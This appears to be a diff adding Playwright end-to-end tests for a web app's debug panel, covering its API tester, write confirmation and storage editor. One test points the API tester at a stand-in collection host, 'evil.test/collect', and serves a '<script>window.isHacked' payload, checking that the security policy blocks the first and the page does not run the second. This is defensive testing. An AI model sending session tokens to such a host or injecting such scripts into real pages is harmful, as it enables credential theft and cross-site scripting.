@@ -1,0 +1,101 @@
+import type { Page } from '@playwright/test';
+import { enter, newAccount } from '../../fixtures/people/people.ts';
+import { expect, test } from '../../fixtures/test.ts';
+
+test.use({ expectedErrors: [/Failed to load resource|Content Security Policy/] });
+
+const panel = (page: Page) => page.getByRole('dialog', { name: 'Debug Panel' });
+const response = (page: Page) => page.getByLabel('Response', { exact: true });
+
+async function open(page: Page, tab: string) {
+  await page.getByRole('button', { name: 'Debug panel' }).click();
+  await panel(page).getByRole('tab', { name: tab }).click();
+}
+
+test('the panel is fetched when it is first opened, and closes on a press outside', async ({
+  page,
+}) => {
+  const fetched: string[] = [];
+  page.on('request', (request) => fetched.push(request.url()));
+  await page.goto('/projects');
+  await expect(page.getByRole('button', { name: 'Debug panel' })).toBeVisible();
+  expect(fetched.filter((url) => url.includes('debug-panel'))).toEqual([]);
+
+  await page.keyboard.press('Shift+D');
+  await expect(panel(page)).toBeVisible();
+  await page.mouse.click(20, 300);
+  await expect(panel(page)).toBeHidden();
+  await page.getByRole('searchbox').first().fill('');
+  await page.getByRole('searchbox').first().press('Shift+D');
+  await expect(page.getByRole('searchbox').first()).toHaveValue('D');
+  await expect(panel(page)).toBeHidden();
+});
+
+test('quick reads show up to five rows, and the tester keeps the token at home', async ({
+  page,
+}) => {
+  const person = await newAccount();
+  await enter(page, person);
+  await open(page, 'API Test');
+  for (const table of ['users', 'projects', 'services']) {
+    await panel(page).getByRole('button', { name: table, exact: true }).click();
+    await expect(panel(page).getByRole('status').filter({ hasText: table })).toContainText(
+      'Success',
+    );
+    const rows: unknown = JSON.parse(await response(page).innerText());
+    expect(rows).toHaveLength(5);
+  }
+
+  const url = panel(page).getByLabel('URL');
+  const send = panel(page).getByRole('button', { name: 'Send request' });
+  await url.fill('https://evil.test/collect');
+  await send.click();
+  await expect(
+    page.getByText('The security policy of this site does not let it ask https://evil.test.'),
+  ).toBeVisible();
+  await expect(panel(page).getByText('Error', { exact: true })).toBeVisible();
+
+  await page.route('**/rest/v1/strange', (route) =>
+    route.fulfill({ contentType: 'text/html', body: '<script>window.isHacked = true</script>' }),
+  );
+  await url.fill('/rest/v1/strange');
+  const asking = page.waitForRequest('**/rest/v1/strange');
+  await send.click();
+  expect((await asking).headers().authorization).toMatch(/^Bearer eyJ/);
+  await expect(response(page).last()).toHaveText('<script>window.isHacked = true</script>');
+  expect(await page.evaluate(() => 'isHacked' in window)).toBe(false);
+});
+
+test('the tester asks before a write and names what is not JSON', async ({ page }) => {
+  await enter(page, await newAccount());
+  await open(page, 'API Test');
+  await panel(page).getByLabel('Method').click();
+  await page.getByRole('option', { name: 'DELETE' }).click();
+  await panel(page).getByLabel('URL').fill('/rest/v1/users');
+  await panel(page).getByLabel('Headers (JSON)').fill('{ Prefer');
+  await panel(page).getByRole('button', { name: 'Send request' }).click();
+  await expect(panel(page).getByRole('alert')).toContainText('The headers are not valid JSON: ');
+
+  await panel(page).getByLabel('Headers (JSON)').fill('');
+  await panel(page).getByRole('button', { name: 'Send request' }).click();
+  await page.getByRole('alertdialog').getByRole('button', { name: 'Send', exact: true }).click();
+  await expect(panel(page).getByText(/^(400|401|403) /)).toBeVisible();
+  await expect(panel(page).getByText('Error', { exact: true })).toBeVisible();
+});
+
+test('a broken session in the storage editor ends in the question to sign in again', async ({
+  page,
+}) => {
+  const person = await newAccount();
+  await enter(page, person);
+  await open(page, 'Local Storage');
+  await panel(page).getByRole('button', { name: 'Edit bolt-showcase-session' }).click();
+  await panel(page).getByLabel('Value of bolt-showcase-session').fill('{ broken');
+  await panel(page).getByRole('button', { name: 'Save' }).click();
+
+  const question = page.getByRole('dialog', { name: 'Please sign in again' });
+  await expect(question).toBeVisible();
+  await question.getByLabel('Password', { exact: true }).fill(person.password);
+  await question.getByRole('button', { name: 'Sign in', exact: true }).click();
+  await expect(page.getByRole('banner').getByRole('button', { name: 'Sign Out' })).toBeVisible();
+});
